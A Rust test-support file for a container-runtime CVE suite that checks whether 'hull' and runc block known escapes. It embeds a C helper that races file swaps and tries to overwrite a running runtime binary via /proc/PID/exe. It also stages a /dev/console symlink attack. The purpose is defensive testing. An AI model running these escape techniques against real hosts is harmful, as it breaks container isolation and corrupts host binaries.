//! Shared by the CVE suite (tests/cve.rs): a runtime handle that drives hull or runc with the
//! same arguments, the report line, and a small static attack helper built with gcc.
#![allow(dead_code)]

use crate::common::*;
use serde_json::{json, Value};
use std::fs;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::symlink;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Mutex;
use std::time::Duration;

pub const RUNC: &str = "/usr/sbin/runc";

/// A runtime under test: hull or runc, each with its own state root. Every container id it
/// hands out is force-deleted (by this runtime's binary) on drop, even when the test panics.
pub struct Rt {
    pub name: &'static str,
    pub bin: PathBuf,
    pub root: PathBuf,
    ids: Mutex<Vec<String>>,
}

impl Rt {
    pub fn new(env: &Env, name: &'static str, bin: &Path) -> Rt {
        Rt {
            name,
            bin: bin.to_path_buf(),
            root: env.base.join(format!("{name}-root")),
            ids: Mutex::new(Vec::new()),
        }
    }
    pub fn is_hull(&self) -> bool {
        self.name == "hull"
    }
    pub fn cmd(&self) -> Command {
        let mut c = Command::new(&self.bin);
        c.arg("--root").arg(&self.root).stdin(Stdio::null());
        c
    }
    pub fn id(&self, env: &Env, tag: &str) -> String {
        let id = env.id(&format!("{}-{tag}", self.name));
        self.ids.lock().unwrap().push(id.clone());
        id
    }
    #[track_caller]
    pub fn run(&self, env: &Env, args: &[&str]) -> Out {
        self.run_t(env, args, TIMEOUT)
    }
    #[track_caller]
    pub fn run_t(&self, env: &Env, args: &[&str], t: Duration) -> Out {
        let mut c = self.cmd();
        c.args(args);
        env.run_cmd(c, &format!("{} {}", self.name, args.join(" ")), t)
    }
    /// `run` in the foreground: the container's output is in stdout.
    #[track_caller]
    pub fn run_bundle(&self, env: &Env, b: &Bundle, id: &str) -> Out {
        self.run(env, &["run", "--bundle", b.dir.to_str().unwrap(), id])
    }
    /// `run -d`: the container keeps running after this returns.
    #[track_caller]
    pub fn run_detached(&self, env: &Env, b: &Bundle, id: &str) -> Out {
        self.run(env, &["run", "-d", "--bundle", b.dir.to_str().unwrap(), id])
    }
    /// `delete --force`; when this runtime's binary cannot run (a test attacked a copy of
    /// it), the installed binary of the same runtime cleans up instead.
    pub fn delete(&self, id: &str) {
        let ok = self
            .cmd()
            .args(["delete", "--force", id])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        if !ok {
            let fallback = if self.is_hull() { HULL } else { RUNC };
            let _ = Command::new(fallback)
                .arg("--root")
                .arg(&self.root)
                .args(["delete", "--force", id])
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status();
        }
    }
    pub fn init_pid(&self, env: &Env, id: &str) -> Option<i64> {
        let o = self.run(env, &["state", id]);
        serde_json::from_str::<Value>(&o.stdout)
            .ok()
            .and_then(|v| v["pid"].as_i64())
    }
}

impl Rt {
    /// Delete every container this runtime started and check the host: no state dir, cgroup,
    /// process or mount of any of them, nothing mounted or running under the test dir. Asserted
    /// for hull, printed for runc.
    #[track_caller]
    pub fn assert_clean(&self, env: &Env) {
        let ids = self.ids.lock().map(|v| v.clone()).unwrap_or_default();
        let mut problems = Vec::new();
        for id in &ids {
            self.delete(id);
        }
        let ok = wait_until(Duration::from_secs(5), || {
            problems = ids
                .iter()
                .flat_map(|id| leftovers(&self.root, id, &env.base))
                .collect();
            problems.is_empty()
        });
        if !ok {
            eprintln!("[{}] left behind: {problems:?}", self.name);
        }
        if self.is_hull() {
            assert!(ok, "hull left things on the host: {problems:#?}");
        }
    }
}

impl Drop for Rt {
    fn drop(&mut self) {
        let ids = self.ids.lock().map(|v| v.clone()).unwrap_or_default();
        for id in ids {
            self.delete(&id);
        }
    }
}

/// hull, and runc when it is installed.
pub fn runtimes(env: &Env) -> Vec<Rt> {
    let mut v = vec![Rt::new(env, "hull", Path::new(HULL))];
    if Path::new(RUNC).exists() {
        v.push(Rt::new(env, "runc", Path::new(RUNC)));
    }
    v
}

pub fn first_line(s: &str) -> String {
    s.lines()
        .rev()
        .find(|l| !l.trim().is_empty())
        .unwrap_or("")
        .chars()
        .take(200)
        .collect()
}

pub fn verdict(escaped: bool) -> &'static str {
    if escaped {
        "ESCAPED"
    } else {
        "blocked"
    }
}

/// Report one runtime's result; fail only for hull.
#[track_caller]
pub fn report(cve: &str, rt: &Rt, escaped: bool, what: &str) {
    eprintln!("{cve} [{}]: {} — {what}", rt.name, verdict(escaped));
    if rt.is_hull() {
        assert!(!escaped, "{cve}: hull was escaped: {what}");
    }
}

pub fn mkfile(p: &Path, content: &str, mode: u32) {
    if let Some(d) = p.parent() {
        fs::create_dir_all(d).unwrap();
    }
    fs::write(p, content).unwrap();
    fs::set_permissions(p, fs::Permissions::from_mode(mode)).unwrap();
}

pub fn host_fingerprint(p: &Path) -> (u64, Vec<u8>) {
    let b = fs::read(p).unwrap_or_default();
    (b.len() as u64, b)
}

/// A small static helper for the racing and /proc/PID/exe attacks, compiled with the host's
/// gcc (busybox cannot renameat2(RENAME_EXCHANGE) or loop fast enough). Modes:
/// `swap DIR A B SECS`: exchange DIR/A and DIR/B as fast as possible for SECS seconds.
/// `exe SIZE SECS OUT`: find a process whose /proc/PID/exe is SIZE bytes, keep that handle,
/// wait until it can be opened for writing through /proc/self/fd and append to it; the
/// outcome goes to OUT.
pub const TOOL_C: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static void say(const char *out, const char *msg) {
  int f = open(out, O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (f >= 0) { write(f, msg, strlen(msg)); write(f, "\n", 1); close(f); }
}

int main(int argc, char **argv) {
  if (argc == 6 && !strcmp(argv[1], "swap")) {
    if (chdir(argv[2])) return 1;
    time_t end = time(0) + atoi(argv[5]);
    while (time(0) < end)
      for (int i = 0; i < 1000; i++)
        syscall(SYS_renameat2, AT_FDCWD, argv[3], AT_FDCWD, argv[4], 2 /* RENAME_EXCHANGE */);
    return 0;
  }
  if (argc == 5 && !strcmp(argv[1], "exe")) {
    off_t size = atoll(argv[2]);
    time_t end = time(0) + atoi(argv[3]);
    const char *out = argv[4];
    pid_t me = getpid();
    int fd = -1;
    char p[128], buf[512];
    while (fd < 0 && time(0) < end) {
      DIR *d = opendir("/proc");
      struct dirent *e;
      while (d && (e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 1 || pid == me) continue;
        snprintf(p, sizeof p, "/proc/%d/exe", pid);
        int f = open(p, O_PATH | O_CLOEXEC);
        if (f < 0) continue;
        struct stat st;
        if (!fstat(f, &st) && st.st_size == size) { fd = f; break; }
        close(f);
      }
      if (d) closedir(d);
    }
    if (fd < 0) { say(out, "NOTFOUND"); say(out, "DONE"); pause(); return 0; }
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(p, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    char line[700];
    snprintf(line, sizeof line, "GOT %s", buf);
    say(out, line);
    for (;;) {
      int w = open(p, O_WRONLY | O_APPEND);
      if (w >= 0) {
        /* Opening for writing is not enough: a sealed memfd opens but refuses writes. */
        ssize_t wrote = write(w, "PWNED", 5);
        int err = errno;
        close(w);
        if (wrote != 5) {
          snprintf(line, sizeof line, "WRITE-REFUSED errno=%d", err);
          say(out, line);
          say(out, "DONE");
          pause();
          return 0;
        }
        say(out, "WROTE");
        break;
      }
      if (errno != ETXTBSY) {
        snprintf(line, sizeof line, "DENIED %s", strerror(errno));
        say(out, line);
        break;
      }
      if (time(0) >= end) { say(out, "TIMEOUT (still ETXTBSY)"); break; }
    }
    say(out, "DONE");
    pause();
    return 0;
  }
  return 2;
}
"#;

pub fn build_tool(env: &Env) -> PathBuf {
    let src = env.base.join("cvetool.c");
    let bin = env.base.join("cvetool");
    fs::write(&src, TOOL_C).unwrap();
    let out = Command::new("gcc")
        .args(["-static", "-O2", "-o"])
        .arg(&bin)
        .arg(&src)
        .output()
        .expect("run gcc (needed to build the attack helper)");
    assert!(
        out.status.success(),
        "gcc: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    bin
}

/// Copy a dynamically linked binary's libraries into the rootfs (a real image has them).
pub fn copy_libs(bin: &Path, rootfs: &Path) {
    let out = Command::new("ldd").arg(bin).output().expect("ldd");
    for tok in String::from_utf8_lossy(&out.stdout).split_whitespace() {
        if tok.starts_with('/') {
            let dst = rootfs.join(tok.trim_start_matches('/'));
            fs::create_dir_all(dst.parent().unwrap()).unwrap();
            if !dst.exists() {
                fs::copy(tok, &dst).unwrap();
            }
        }
    }
}

pub fn append_mounts(b: &Bundle, extra: Value) {
    b.edit(|c| {
        let m = c["mounts"].as_array_mut().unwrap();
        for e in extra.as_array().unwrap() {
            m.push(e.clone());
        }
    });
}

/// Mountinfo of a running container's init as the host reads it: only mounts reachable from
/// the container's root are listed, so a mount that landed outside the rootfs is missing.
pub fn mountinfo_of(pid: i64) -> String {
    fs::read_to_string(format!("/proc/{pid}/mountinfo")).unwrap_or_default()
}

/// A host directory to bind at /dev: the devpts/shm/mqueue mounts of the config land in it.
pub fn dev_dir(env: &Env) -> PathBuf {
    let d = env.path("devdir");
    fs::create_dir_all(&d).unwrap();
    // runc opens /dev/ptmx for a terminal and does not create it in a bind-mounted /dev.
    symlink("pts/ptmx", d.join("ptmx")).unwrap();
    d
}

/// Accept one connection on the console socket and keep the pty master it carries.
pub fn accept_master(l: std::os::unix::net::UnixListener) -> Option<OwnedFd> {
    use nix::sys::socket::{recvmsg, ControlMessageOwned, MsgFlags};
    l.set_nonblocking(false).ok()?;
    let (conn, _) = l.accept().ok()?;
    let mut buf = [0u8; 4096];
    let mut iov = [std::io::IoSliceMut::new(&mut buf)];
    let mut space = nix::cmsg_space!([std::os::fd::RawFd; 2]);
    let msg = recvmsg::<()>(
        conn.as_raw_fd(),
        &mut iov,
        Some(&mut space),
        MsgFlags::MSG_CMSG_CLOEXEC,
    )
    .ok()?;
    for c in msg.cmsgs().ok()? {
        if let ControlMessageOwned::ScmRights(fds) = c {
            // SAFETY: a fresh fd received just now, owned by nobody else.
            return fds.first().map(|&f| unsafe { OwnedFd::from_raw_fd(f) });
        }
    }
    None
}

/// CVE-2025-52565: /dev (bind-mounted from a host directory the attacker prepared) holds a real
/// null device and `console -> target`; run a terminal container and say where the pty bind
/// landed. Returns the description and whether the pty was mounted onto a /proc path.
pub fn console_symlink(env: &Env, rt: &Rt, target: &str) -> (String, bool) {
    {
        // /dev comes from a directory the attacker prepared: a real null device, and
        // console -> a procfs file. A runtime that follows it binds the pty over that file
        // (the advisory's variant bound procfs files onto /dev/console, writable).
        let dev = dev_dir(env);
        let null = std::ffi::CString::new(dev.join("null").to_str().unwrap()).unwrap();
        // SAFETY: mknod with a valid path.
        let r = unsafe { libc::mknod(null.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, 3)) };
        assert_eq!(r, 0, "mknod {null:?}");
        symlink(target, dev.join("console")).unwrap();
        let b = env.bundle();
        bind_dev(&b, &dev);
        b.edit(|c| {
            c["process"]["terminal"] = json!(true);
            c["linux"]["readonlyPaths"] = json!([]);
        });
        b.args(&["sleep", "20"]);
        let sock = env.path("console.sock");
        let l = std::os::unix::net::UnixListener::bind(&sock).unwrap();
        let t = std::thread::spawn(move || accept_master(l));
        let id = rt.id(env, "tty");
        let o = rt.run(
            env,
            &[
                "run",
                "-d",
                "--console-socket",
                sock.to_str().unwrap(),
                "--bundle",
                b.dir.to_str().unwrap(),
                &id,
            ],
        );
        if o.code != 0 {
            // Unblock the accept if the runtime never connected.
            let _ = std::os::unix::net::UnixStream::connect(&sock);
        }
        let master = t.join().ok().flatten();
        let (what, escaped) = if o.code == 0 {
            let pid = rt.init_pid(env, &id).unwrap_or(0);
            let mi = mountinfo_of(pid);
            let on_proc: Vec<&str> = mi
                .lines()
                .filter(|l| {
                    l.split(' ')
                        .nth(4)
                        .is_some_and(|mp| mp.starts_with("/proc/"))
                })
                .filter(|l| l.contains(" - devpts "))
                .collect();
            let console: Vec<&str> = mi
                .lines()
                .filter(|l| l.split(' ').nth(4) == Some("/dev/console"))
                .collect();
            (
                format!(
                    "ran; pty mounts on /proc paths {on_proc:?}, mounts on /dev/console {}",
                    console.len()
                ),
                !on_proc.is_empty(),
            )
        } else {
            (format!("refused: {}", first_line(&o.stderr)), false)
        };
        drop(master);
        rt.delete(&id);
        (
            format!("/dev/console -> {target} in a bind-mounted /dev, terminal: true: {what}"),
            escaped,
        )
    }
}

pub fn bind_dev(b: &Bundle, dev: &Path) {
    b.edit(|c| {
        for m in c["mounts"].as_array_mut().unwrap() {
            if m["destination"] == "/dev" {
                *m = json!({"destination": "/dev", "type": "bind", "source": dev,
                            "options": ["rbind", "rw"]});
            }
        }
    });
}
